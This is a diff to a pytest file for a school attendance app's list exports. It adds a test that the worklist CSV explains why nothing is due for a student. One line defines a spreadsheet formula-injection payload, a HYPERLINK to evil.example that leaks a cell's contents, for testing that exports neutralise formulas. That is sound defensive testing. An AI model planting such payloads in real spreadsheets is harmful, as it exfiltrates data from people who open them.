@@ -1,20 +1,24 @@
 """A list's file carries what its page shows beside the list: the unassigned
 queue's referrals waiting for nobody, a school's referrals on the front
-office's page. Each follows the list's rows in the CSV (after an empty line:
+office's page, why nothing is due for a student of the worklist. Each follows the list's rows in the CSV (after an empty line:
 its title, its header, its rows) and is a sheet of its own in the XLSX, with
 the page's words (reason and status labels, not codes), no cell that runs
 as a formula, and each student named logged once as disclosed."""
 import csv
+import datetime
 import io
 
 import openpyxl
 import pytest
+import time_machine
 
 from fieldapp.cases import desk_records
 from fieldapp.models import AccessLog
 from tests import factories
 from tests.web.conftest import page_text
+from tests.web.test_export_rows import NOW
 from tests.web.test_jobs import job_id_of, wait_for
+from tests.web.test_worklist_pages import mark
 
 HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -104,3 +108,23 @@ def test_the_school_list_file_carries_the_schools_referrals_with_their_answers(a
 def test_a_list_with_nothing_beside_it_is_the_list_alone(auth, login_as, world):
     login_as("supervisor")
     assert list(_sections(auth.post("/supervisor/export/unassigned", data={"format": "csv"}))) == [None]
+
+
+def test_the_worklists_file_says_why_nothing_is_due_as_its_page_does(auth, login_as, world):
+    """The section "Nothing due, and why" lists under each student why; the
+    file gave the section's name and left out the why."""
+    student = world["student_a"]
+    with time_machine.travel(NOW, tick=False):
+        mark(student, datetime.date(2025, 9, 3), datetime.date(2025, 9, 10))
+        mark(student, datetime.date(2025, 9, 17), category="excused_tardy", minutes=60)
+        mark(student, datetime.date(2025, 9, 20))  # a Saturday
+        login_as("supervisor")
+        page = page_text(auth.client.get("/worklist"))
+        assert "Nothing due, and why" in page and "excused part of a day" in page
+        rows = _sections(auth.post("/supervisor/export/worklist", data={"format": "csv"}))[None]
+    line = next(dict(zip(rows[0], row)) for row in rows[1:] if row[0] == student.local_id)
+    assert line["Section"] == "Nothing due, and why"
+    assert "excused part of a day" in line["Why nothing due"]
+    assert "mark on a day without school" in line["Why nothing due"]
+    assert all(not dict(zip(rows[0], row))["Why nothing due"] for row in rows[1:]
+               if dict(zip(rows[0], row))["Section"] != "Nothing due, and why")
